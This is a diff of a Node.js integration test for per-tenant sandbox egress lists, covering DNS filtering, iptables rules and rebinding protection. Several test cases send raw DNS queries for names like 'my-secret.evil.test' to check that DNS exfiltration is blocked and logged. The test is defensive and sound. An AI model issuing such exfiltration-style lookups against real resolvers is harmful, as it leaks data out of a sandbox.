@@ -1,5 +1,5 @@
-// Sandboxes that may not go everywhere: to the places of a list, by the names and ports that it says, or nowhere; each
-// tenant and user by their own; and no name of theirs is asked of anybody else.
+// Sandboxes with restricted egress: only to listed names and ports, or none; each
+// tenant and user has their own list; names outside of it cause no query.
 // The "internet" is a network namespace with public addresses; names come from a hosts file and a name server of the test.
 import assert from 'node:assert/strict';
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
@@ -15,7 +15,7 @@ import { within } from './support/wait.mjs';
 const isRoot = process.getuid() === 0 && process.env.DEFT_NETWORK_RULES !== '0';
 const ip = (...args) => execFileSync('ip', args, { stdio: ['ignore', 'pipe', 'pipe'] }).toString();
 const iptables = (...args) => execFileSync('iptables', ['-w', '5', ...args], { stdio: ['ignore', 'pipe', 'pipe'] }).toString();
-// Where names of its list are asked for, as the kernel writes it.
+// The address of the resolver for lists, in the kernel's notation.
 const listenerOf = ({ url }) => {
   const [a, b, c, d] = new URL(url).hostname.split('.').map(Number);
   return `${Buffer.from([d - 1, c, b, a]).toString('hex').toUpperCase()}:${(1054).toString(16).toUpperCase().padStart(4, '0')}`;
@@ -64,17 +64,38 @@ for target in sys.argv[1:]:
     except OSError:
         print(target, 'refused')
 `;
-// Asks another server for a name, and says what it answered.
+// Queries a server for a name by UDP or TCP, and prints the reply's code and number of records.
 const ASK = `
 import socket, sys
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.settimeout(10)
-name = b''.join(bytes([len(label)]) + label.encode() for label in sys.argv[2].split('.'))
-s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + name + b'\\x00\\x00\\x01\\x00\\x01', (sys.argv[1], 53))
-print(s.recv(512)[3] & 15)
+server, name, kind, protocol = sys.argv[1:]
+labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
+query = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + labels + b'\\x00' + int(kind).to_bytes(2, 'big') + b'\\x00\\x01'
+if protocol == 'udp':
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(10)
+    s.sendto(query, (server, 53))
+    reply = s.recv(512)
+else:
+    s = socket.create_connection((server, 53), 10)
+    s.sendall(len(query).to_bytes(2, 'big') + query)
+    stream = s.makefile('rb')
+    reply = stream.read(int.from_bytes(stream.read(2), 'big'))
+print(reply[3] & 15, reply[7])
 `;
+// Holds idle connections to a name server, and looks up a name.
+const HOLD = `
+import socket, sys
+held = []
+for _ in range(2):
+    s = socket.socket()
+    s.settimeout(10)
+    s.connect((sys.argv[1], 53))
+    held.append(s)
+print(socket.getaddrinfo(sys.argv[2], 80, socket.AF_INET)[0][4][0])
+`;
+const TYPES = { A: 1, MX: 15, TXT: 16, AAAA: 28, HTTPS: 65 };
 
-describe('where sandboxes may go', { skip: !isRoot && 'needs root, and packet filter rules' }, () => {
+describe('egress lists', { skip: !isRoot && 'needs root, and packet filter rules' }, () => {
   let house;
   let outside;
   let names;
@@ -83,7 +104,7 @@ describe('where sandboxes may go', { skip: !isRoot && 'needs root, and packet fi
   const cut = [];
   const tag = () => createHash('sha256').update(house.instance).digest('hex').slice(0, 4);
 
-  // Says that there is no such name, at once.
+  // Answers NXDOMAIN at once.
   async function serveNames() {
     names = dgram.createSocket('udp4');
     names.on('message', (question, { port, address }) => {
@@ -113,7 +134,7 @@ describe('where sandboxes may go', { skip: !isRoot && 'needs root, and packet fi
     await makeOutside();
     await serveNames();
     house = await House.open({ OH_SANDBOX_EGRESS: 'list', OH_SANDBOX_EGRESS_ALLOW: LIST });
-    // Names as the service sees them, and nobody else on this host.
+    // Names that only the service sees on this host.
     await house.stop();
     fs.writeFileSync(`${house.dir}/hosts`, HOSTS);
     fs.writeFileSync(`${house.dir}/resolv.conf`, `nameserver ${NAME_SERVER}\n${fs.readFileSync('/etc/resolv.conf', 'utf8')}`);
@@ -148,30 +169,45 @@ describe('where sandboxes may go', { skip: !isRoot && 'needs root, and packet fi
     return id;
   };
 
-  it('the places of the list are reached, by any spelling of their name, and by their ports alone', async () => {
+  it('listed destinations are reachable, in any spelling of their names, on their ports only', async () => {
     assert.equal(await probe(one, 'allowed.test:8080', 'ALLOWED.Test.:8080', 'one.below.test:7070', `${RANGED}:9090`), 'reached reached reached reached');
     assert.equal(await probe(one, 'allowed.test:7070', `${RANGED}:8080`), 'refused refused');
     await isNoted(one, { host: NAMED, port: 7070, protocol: 'tcp', reason: 'policy' });
     await isNoted(one, { host: RANGED, port: 8080, protocol: 'tcp', reason: 'policy' });
   });
 
-  it('other names are not known, nor asked of anybody, and are noted', async () => {
+  it('other names do not resolve, cause no query, and are recorded', async () => {
     assert.equal(await probe(one, 'forbidden.test:8080', 'below.test:7070', 'my-secret.evil.test:80'), 'unknown unknown unknown');
     await isNoted(one, { host: 'my-secret.evil.test', port: null, protocol: 'dns', reason: 'policy' });
-    const { text } = await house.look(one.runtime_id, ['python3', '-c', ASK, BELOW, 'my-other-secret.evil.test']);
-    assert.equal(text.trim(), '3', 'whoever is meant to be asked: there is no such name');
+    const { text } = await house.look(one.runtime_id, ['python3', '-c', ASK, BELOW, 'my-other-secret.evil.test', '1', 'udp']);
+    assert.equal(text.trim(), '3 0', 'whoever is meant to be asked: there is no such name');
     await isNoted(one, { host: 'my-other-secret.evil.test', protocol: 'dns' });
     assert.equal(await probe(one, 'nowhere.test:80'), 'unknown');
     assert.equal(asked.some((question) => question.includes('\x07nowhere\x04test')), true, 'the name server of the test is asked what may be asked');
     assert.equal(asked.some((question) => question.includes('evil') || question.includes('forbidden')), false);
   });
 
-  it('a name of the list that leads to a private network leads nowhere', async () => {
+  it('names are answered by TCP, too, whatever server is addressed', async () => {
+    const ask = async (name, type, protocol) => (await house.look(one.runtime_id, ['python3', '-c', ASK, BELOW, name, String(TYPES[type]), protocol])).text.trim();
+    assert.equal(await ask('allowed.test', 'A', 'tcp'), '0 1');
+    assert.equal(await ask('my-third-secret.evil.test', 'A', 'tcp'), '3 0');
+    await isNoted(one, { host: 'my-third-secret.evil.test', protocol: 'dns' });
+    const { text } = await house.look(one.runtime_id, ['env', 'RES_OPTIONS=use-vc', 'python3', '-c', PROBE, 'allowed.test:8080', 'forbidden.test:8080']);
+    assert.deepEqual(text.trim().split(/\r?\n/), ['allowed.test:8080 reached', 'forbidden.test:8080 unknown']);
+    for (const protocol of ['udp', 'tcp']) {
+      for (const type of ['AAAA', 'MX', 'TXT', 'HTTPS']) assert.equal(await ask('allowed.test', type, protocol), '0 0', `${type} by ${protocol}: there is none, and the name exists`);
+    }
+    const { text: found } = await house.look(one.runtime_id, ['python3', '-c', HOLD, BELOW, 'allowed.test']);
+    assert.equal(found.trim(), NAMED, 'connections that ask nothing delay no other query');
+    assert.equal(asked.some((question) => question.includes('evil')), false);
+  });
+
+  it('a listed name with a private address is unreachable', async () => {
     assert.equal(await probe(one, 'rebound.test:80'), 'unknown');
     await isNoted(one, { host: 'rebound.test', protocol: 'dns' });
   });
 
-  it('the rules come back where somebody took them away, and outlive the service', async () => {
+  it('removed rules are restored, and rules outlive the service', async () => {
     iptables('-F', `DEFT-GO-${tag()}`);
     iptables('-t', 'nat', '-F', `DEFT-DNS-${tag()}`);
     await waitUntil(() => iptables('-S', `DEFT-GO-${tag()}`).includes(' -g DEFT-P') && iptables('-t', 'nat', '-S', `DEFT-DNS-${tag()}`).includes('REDIRECT'), DEADLINE_MS, 'the rules are back');
@@ -182,7 +218,7 @@ describe('where sandboxes may go', { skip: !isRoot && 'needs root, and packet fi
     assert.equal(await probe(one, `${RANGED}:8080`, 'allowed.test:8080'), 'refused reached');
   });
 
-  it('each owner has their own, before anything of theirs runs, also in a sandbox that had waited', async () => {
+  it('each owner\'s list is in place before their code runs, also in a warm sandbox', async () => {
     await house.stop();
     house.settings = { ...house.settings, DEFT_WARM_LEAST: '1', DEFT_WARM_MOST: '1' };
     await house.start();
@@ -202,10 +238,10 @@ describe('where sandboxes may go', { skip: !isRoot && 'needs root, and packet fi
     await waitUntil(async () => await probe(free, `${RANGED}:7070`) === 'refused', DEADLINE_MS, 'a change counts');
   });
 
-  it('what cannot be read lets nobody through', async () => {
+  it('an unreadable list allows no connection', async () => {
     const { status, json } = await house.sandbox('l-4', { owner_id: owner('list', 'a..b') });
     assert.equal(status, 400);
-    assert.match(json.detail, /where the sandbox may go.*a\.\.b: it is no host name/);
+    assert.match(json.detail, /egress policy of the sandbox.*a\.\.b: it is not a host name/);
     for (const settings of [{ OH_SANDBOX_EGRESS: 'some' }, { OH_SANDBOX_EGRESS_ALLOW: '10.0.0.0/8' }, { OH_SANDBOX_EGRESS_ALLOW: '' }, { DEFT_NETWORK_RULES: '0' }]) {
       const { status: code, stderr } = spawnSync(house.service.spawnargs.at(-1), [], { env: { ...house.environment(), DEFT_RUNTIME_LISTEN: `${house.dir}/other.sock`, ...settings }, encoding: 'utf8' });
       assert.notEqual(code, 0);
